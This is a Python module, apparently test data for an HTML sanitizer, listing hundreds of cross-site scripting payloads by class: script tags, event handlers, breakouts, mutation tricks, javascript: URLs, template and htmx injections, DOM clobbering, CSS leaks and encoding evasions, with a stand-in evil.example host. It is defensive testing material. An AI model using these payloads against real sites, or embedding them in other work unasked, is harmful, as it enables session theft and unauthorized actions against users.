"""What somebody writes who wants their words to run on another's screen, class by class.

Each is a text that would, put into a page as it stands, call ``pwn`` with its own number, load
something from elsewhere, or bring in an element or an attribute of its own. ``§`` stands for the
call, ``¶`` for an address of somebody else's.
"""

from __future__ import annotations

ELEMENTS = r"""
<script>§</script>
<SCRIPT>§</SCRIPT >
<scr<script>ipt>§</scr</script>ipt>
<script src=¶></script>
<script src=//evil.example/x.js defer>
<script type=module>§</script>
<script type="text/hyperscript">on load call §</script>
<script/x>§</script>
<script
>§</script>
<<script>§//<</script>
<script>/*</script>*/§</script>
<iframe src=¶></iframe>
<iframe src="javascript:§"></iframe>
<iframe srcdoc="<script>parent.§</script>"></iframe>
<iframe srcdoc='&lt;script&gt;parent.§&lt;/script&gt;'>
<object data="javascript:§"></object>
<object data=¶ type=text/html></object>
<embed src="javascript:§">
<embed src=¶ type=image/svg+xml>
<applet code=¶></applet>
<base href=¶>
<base target=_blank href="javascript:§//">
<link rel=stylesheet href=¶>
<link rel=preload as=script href=¶>
<link rel=prefetch href=¶>
<link rel=dns-prefetch href=¶>
<link rel=import href=¶>
<meta http-equiv=refresh content="0;url=javascript:§">
<meta http-equiv=refresh content="0;url=¶">
<meta http-equiv=Set-Cookie content="recension=planted">
<meta name=referrer content=unsafe-url>
<meta name=htmx-config content='{"allowEval":true}'>
<style>*{background:url(¶)}</style>
<style>@import '¶';</style>
<form action="javascript:§"><button>go</button></form>
<form action=¶><input name=a></form>
<form id=planted><button formaction="javascript:§">go</button></form>
<isindex type=image src=1 onerror=§>
<frameset onload=§><frame src=¶></frameset>
<portal src=¶ onload=§></portal>
<fencedframe src=¶></fencedframe>
<template><script>§</script></template>
<template shadowrootmode=open><script>§</script></template>
<slot onslotchange=§></slot>
<x-planted onclick=§>press</x-planted>
"""

HANDLERS = r"""
<img src=x onerror=§>
<img src=x onerror="§">
<img src=x onerror='§'>
<img src=x onerror=`§`>
<img/src=x/onerror=§>
<img src=x:x onerror=§//
<img src onerror=§>
<img srcset=x onerror=§>
<image src=x onerror=§>
<picture><source srcset=¶><img onerror=§></picture>
<body onload=§>
<body onpageshow=§>
<body onhashchange=§ onpopstate=§>
<body onbeforeprint=§ onafterprint=§>
<svg onload=§>
<svg/onload=§>
<svg><animate onbegin=§ attributeName=x dur=1s>
<svg><set onbegin=§ attributeName=x>
<svg><image href=x onerror=§>
<video src=x onerror=§></video>
<video><source onerror=§></video>
<video poster=¶ onloadstart=§ src=x></video>
<audio src=x onerror=§></audio>
<audio autoplay oncanplay=§ src=data:audio/wav;base64,UklGRg==></audio>
<track onerror=§ src=¶ default>
<input autofocus onfocus=§>
<input type=image src=x onerror=§>
<select autofocus onfocus=§></select>
<textarea autofocus onfocus=§></textarea>
<keygen autofocus onfocus=§>
<button autofocus onfocus=§>x</button>
<a autofocus tabindex=1 onfocus=§ href=#>x</a>
<div contenteditable autofocus onfocus=§>x</div>
<details open ontoggle=§>x</details>
<dialog open onclose=§ onbeforetoggle=§>x</dialog>
<div popover id=p onbeforetoggle=§>x</div><button popovertarget=p>x</button>
<marquee onstart=§ loop=1>x</marquee>
<marquee onfinish=§ onbounce=§>x</marquee>
<p onmouseover=§ onpointerrawupdate=§>x</p>
<p onanimationstart=§ class=opened>x</p>
<p ontransitionrun=§ ontransitionend=§>x</p>
<p oncontentvisibilityautostatechange=§ style=content-visibility:auto>x</p>
<p oncopy=§ oncut=§ onpaste=§>x</p>
<p onscrollend=§ onscrollsnapchange=§>x</p>
<style onload=§></style>
<link rel=stylesheet href=x onerror=§>
<object data=x onerror=§></object>
<bgsound onpropertychange=§>
<xss onclick="§" style="position:fixed;inset:0">x</xss>
<label onfocusin=§ tabindex=0 autofocus>x</label>
"""

BREAKOUTS = r"""
"><script>§</script>
'><script>§</script>
"><img src=x onerror=§>
'><img src=x onerror=§>
" autofocus onfocus=§ x="
' autofocus onfocus=§ x='
" onmouseover="§
' onmouseover='§
`onmouseover=§`
" style="background:url(¶)" x="
"><svg onload=§>
"/><script>§</script><a b="
</title><script>§</script>
</textarea><script>§</script>
</style><script>§</script>
</script><script>§</script>
</noscript><script>§</script>
</template><script>§</script>
</iframe><script>§</script>
</xmp><script>§</script>
</plaintext><script>§</script>
</select><script>§</script>
</option></select><img src=x onerror=§>
</del></ins><img src=x onerror=§>
</mark></bdi></a><img src=x onerror=§>
</p></article></main></body></html><script>§</script>
<!--><script>§</script>-->
<!-- --!><script>§</script>
--><script>§</script><!--
--!><img src=x onerror=§>
<![CDATA[><script>§</script>]]>
]]><script>§</script>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">§</script>
<!DOCTYPE x [<!ENTITY e SYSTEM "¶">]>&e;
<!ELEMENT x ANY><script>§</script>
<plaintext>§
<xmp><script>§</script>
<noscript><p title="</noscript><img src=x onerror=§>">
<textarea><img title="</textarea><img src=x onerror=§>">
<title><img title="</title><img src=x onerror=§>">
\"><script>§</script>
\'-§-\'
'-§-'
";§//
');§//
\u0022;§//
${§}
}</script><script>§</script>
"]}</script><script>§</script>
\x3cscript\x3e§\x3c/script\x3e
"""

MUTATIONS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">
<math><mi><script>§</script></mi></math>
<math href="javascript:§">x</math>
<math><maction actiontype=statusline xlink:href="javascript:§">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
<math><mtext><mglyph><svg><mtext><style><a title="</style><img src onerror=§>">
<svg><style><img src=x onerror=§></style></svg>
<svg><p><style><a id="</style><img src=1 onerror=§>">
<svg></p><style><a id="</style><img src=1 onerror=§>">
<svg><script>§</script></svg>
<svg><script href="data:text/javascript,§"/></svg>
<svg><script>alert&#40;§&#41;</script></svg>
<svg><a xlink:href="javascript:§"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:§"/><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<svg><use href="¶#x"/></svg>
<svg><foreignObject><iframe src="javascript:§"></iframe></foreignObject></svg>
<svg><discard onbegin=§ /></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">§</handler></svg>
<svg><title><img src=x onerror=§></title></svg>
<svg><desc><![CDATA[</desc><img src=x onerror=§>]]></svg>
<svg><feImage href="¶"/></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>
<table><td><form><table><img src=x onerror=§></table></form></td></table>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=§>">
<a href="<table><a href='"><img src=x onerror=§>
<listing>&lt;img src=x onerror=§&gt;</listing>
<noembed><img title="</noembed><img src=x onerror=§>"></noembed>
<noframes><img title="</noframes><img src=x onerror=§>"></noframes>
<ruby><rtc><img src=x onerror=§></ruby>
"""

ADDRESSES = r"""
javascript:§
JaVaScRiPt:§
javascript://%0a§
javascript:/*--></title></style></textarea></script><svg onload=§>*/§
&#106;avascript:§
&#x6A&#x61&#x76&#x61script:§
java&Tab;script:§
java&NewLine;script&colon;§
%6a%61%76%61script:§
\x6aavascript:§
vbscript:§
livescript:§
data:text/html,<script>§</script>
data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=#§
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>
blob:¶#§
filesystem:¶/temporary/x.html#§
view-source:javascript:§
feed:javascript:§
//evil.example/§
\\evil.example\§
///evil.example/§
https:evil.example/§
<a href="javascript:§">read on</a>
<a href="java script:§">read on</a>
<a href=" javascript:§">read on</a>
<a href="data:text/html,<script>opener.§</script>" target=_blank>x</a>
<a ping=¶ href=#>read on</a>
<a href=# attributionsrc=¶>read on</a>
<area href="javascript:§" shape=default>
<img usemap=#m src=x><map name=m><area href="javascript:§"></map>
[read on](javascript:§)
[read on](data:text/html;base64,PHNjcmlwdD4=) §
![x](x"onerror="§)
<javascript:§>
[x]: javascript:§ "t"
"""

TEMPLATES = r"""
{{7*7}} §
{{§}}
{{constructor.constructor('§')()}}
{{ ''.__class__.__mro__[1].__subclasses__() }} §
{{request.app.state.settings}} §
{{ cycler.__init__.__globals__.os.popen('id').read() }} §
{{ self._TemplateReference__context }} §
{% import 'os' as os %}{{ os }} §
{% include "layout.html" %} §
{%- raw -%}{{§}}{%- endraw -%}
{# §
#}§{#
${7*7} §
${{§}}
#{7*7} §
#{§}
<%= § %>
<% § %>
*{T(java.lang.Runtime)} §
@{§}
~{§}
[[${§}]]
[(${§})]
{§}
{0.__class__} %(x)s %s %n §
$§$
`§`
<?php § ?>
<?= § ?>
<!--#exec cmd="id"--> §
<esi:include src="¶"/> §
<xsl:value-of select="§"/>
=HYPERLINK("¶";"§")
#set($x=7*7)$x §
"""

HTMX = r"""
<p hx-get=¶ hx-trigger=load>x</p>
<p data-hx-get=¶ data-hx-trigger=load>x</p>
<p hx-get=/articles hx-trigger="load[§]">x</p>
<p hx-on:load=§ hx-on::load=§>x</p>
<p hx-on--load="§" data-hx-on:click=§>x</p>
<p hx-on="load: §">x</p>
<p hx-vals="js:{a:§}" hx-get=/ hx-trigger=load>x</p>
<p hx-headers='js:{"a":§}' hx-post=/workspace/delete hx-trigger=load>x</p>
<p hx-vars="a:§" hx-get=/ hx-trigger=load>x</p>
<p hx-delete=/workspace hx-trigger=load>x</p>
<p hx-swap-oob=true id=main>§</p>
<p hx-boost=true hx-push-url=¶><a href=¶>x</a></p>
<p hx-ext=planted hx-request='js:{"credentials":§}'>x</p>
<p hx-prompt=§ hx-confirm=§ hx-get=/ hx-trigger=load>x</p>
<p hx-trigger="every 1s" hx-post=/workspace/leave>x</p>
<p hx-select-oob="#main" hx-get=¶ hx-trigger=revealed>x</p>
<p hx-disinherit=* hx-history-elt hx-target=body hx-get=/ hx-trigger=intersect>x</p>
<p hx-sync=this:drop hx-indicator=#main hx-include=* hx-put=¶ hx-trigger=load>§</p>
<p _="on load call §">x</p>
<p x-data x-init=§ @click=§ :href=§>x</p>
<p v-html=§ ng-init=§ on:click={§}>x</p>
"""

CLOBBERING = r"""
<form id=htmx><input name=config></form>
<a id=htmx><a id=htmx name=config href=¶>x</a></a>
<form name=forms><input name=action><input name=submit></form>
<img name=getElementById>
<img id=location name=location>
<form id=notice name=notice>§</form>
<p id=main>§</p>
<output id=reading>§</output>
<input name=attributes id=attributes form=search>
<form name=body><input name=firstChild></form>
<iframe name=top src=¶></iframe>
<object id=currentScript name=currentScript></object>
<embed name=querySelector>
<a id=pwn href="tel:1">§</a>
"""

STYLES = r"""
<p style="background:url(¶)">x</p>
<p style="width:expression(§)">x</p>
<p style="behavior:url(¶)">x</p>
<p style="-moz-binding:url(¶#x)">x</p>
<p style="position:fixed;inset:0;z-index:9">§</p>
<style>@font-face{font-family:x;src:url(¶)}</style>
<style>input[value^=a]{background:url(¶)}</style>
<svg><style>@import url(¶);</style></svg>
<p style=--x:url(¶);background:var(--x)>x</p>
<p style="list-style:image-set('¶' 1x)">x</p>
"""

ODD = [
    "\uff1cscript\uff1e§\uff1c/script\uff1e",
    "\u2039script\u203a§\u2039/script\u203a",
    "<\u017fcript>§</\u017fcript>",
    "<\u0131mg src=x onerror=§>",
    "<\u202eimg src=x onerror=§>",
    "\u2066<img src=x onerror=§>\u2069",
    "<img\u00a0src=x\u00a0onerror=§>",
    "<img\u2028src=x\u2028onerror=§>",
    "<img\u0085src=x onerror=§>",
    "<img\u200bsrc=x onerror=§>",
    "\ufeff<script>§</script>",
    "<scr\u00adipt>§</scr\u00adipt>",
    "<script\u3000>§</script>",
    "\u02bcx\u02bc onfocus=§",
    "\u2032\u2033><img src=x onerror=§>",
    "&lt;script&gt;§&lt;/script&gt;",
    "&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=§&#62;",
    "&#x3c;img src=x onerror=§&#x3e;",
    "&LT;img src=x onerror=§&GT;",
    "&lt;img src=x onerror=§ &gt",
    "%3Cscript%3E§%3C%2Fscript%3E",
    "%253Cimg src=x onerror=§%253E",
    "\\u003cimg src=x onerror=§\\u003e",
    "\\74img src=x onerror=§\\76",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    "\U000e003cscript\U000e003e§",
    "<img src=x onerror=\U0001d4ea§>",
    "a\u0301<img src=x onerror=§>\u0301",
    "\u05d0<script>§</script>\u05d1",
]
"""Letters that some fold to brackets and quotation marks, marks that nobody sees, encoded forms."""


def payloads() -> list[str]:
    """All of them, each with a number of its own in its call and in its address."""
    kinds = (ELEMENTS, HANDLERS, BREAKOUTS, MUTATIONS, ADDRESSES, TEMPLATES, HTMX, CLOBBERING)
    lines = "\n".join((*kinds, STYLES)).replace("<script\n>", "<script\t>").splitlines()
    texts = [line for line in lines if line.strip()] + ODD
    return [
        text.replace("§", f"pwn({number})").replace("¶", f"https://evil.example/{number}")
        for number, text in enumerate(texts, 1)
    ]
